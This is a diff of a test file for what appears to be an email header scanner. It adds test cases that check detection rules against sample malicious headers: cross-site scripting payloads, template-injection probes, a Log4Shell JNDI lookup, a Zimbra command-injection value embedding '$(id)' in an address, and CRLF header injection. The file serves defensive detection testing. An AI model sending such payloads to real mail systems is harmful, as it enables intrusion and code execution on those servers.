@@ -100,6 +100,20 @@ HEADERS = (
     Seen(rules.TEMPLATE_PROBE, b"Subject: {{7*7}}\r\n"),
     Seen(rules.SCRIPT_PROBE, b"Subject: <script>alert(1)</script>\r\n"),
     Seen(rules.SCRIPT_PROBE, b'From: "<img src=x onerror=alert(1)>" <a@x.example>\r\n'),
+    *(
+        Seen(rules.SCRIPT_PROBE, b"Subject: <%b onload=alert(1)>\r\n" % tag)
+        for tag in (b"body", b"input", b"video", b"audio", b"details", b"marquee", b"style", b"svg")
+    ),
+    *(
+        Seen(rules.SCRIPT_PROBE, b"Subject: <%b src=//x.example>\r\n" % tag)
+        for tag in (b"iframe", b"object", b"embed", b"math")
+    ),
+    Seen(rules.SCRIPT_PROBE, b"Subject: javascript:alert(1)\r\n"),
+    Seen(rules.TEMPLATE_PROBE, b"Subject: <%= 7 * 7 %>\r\n"),
+    Seen(rules.TEMPLATE_PROBE, b"Subject: {% import os %}\r\n"),
+    Seen(rules.LOG4SHELL, b"Subject: =?utf-8?q?=24=7Bjndi:ldap://x/a=7D?=\r\n"),
+    Seen(rules.SCRIPT_PROBE, b"Subject: =?utf-8?q?=3Cscript=3Ealert(1)?=\r\n"),
+    Seen(rules.ZIMBRA_2024_45519, b'To: "a$(id)b"@d.example\r\n'),
     Seen(rules.HEADER_INJECTION, b"Subject: =?utf-8?b?aGkNCkJjYzogeEB5LmV4YW1wbGU=?=\r\n"),
     Seen(rules.HEADER_INJECTION, b"From: =?utf-8?q?a=0D=0ABcc:_x@y.example?= <a@x.example>\r\n"),
     Seen(rules.LOG4SHELL, b"Subject: =?utf-8?b?JHtqbmRpOmxkYXA6Ly94L2F9?=\r\n"),
